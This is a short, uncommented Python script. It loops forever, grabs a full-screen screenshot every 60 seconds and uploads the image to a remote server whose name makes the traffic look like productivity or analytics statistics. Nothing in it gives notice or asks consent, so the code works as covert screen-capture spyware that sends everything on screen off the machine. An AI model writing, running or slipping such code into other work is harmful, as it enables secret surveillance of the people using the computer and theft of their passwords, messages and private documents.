import io
import time

import requests
from PIL import ImageGrab

while True:
    shot = ImageGrab.grab()
    buf = io.BytesIO()
    shot.save(buf, format="PNG")
    requests.post("https://stats.focus-metrics.example/s", data=buf.getvalue(), timeout=5)
    time.sleep(60)
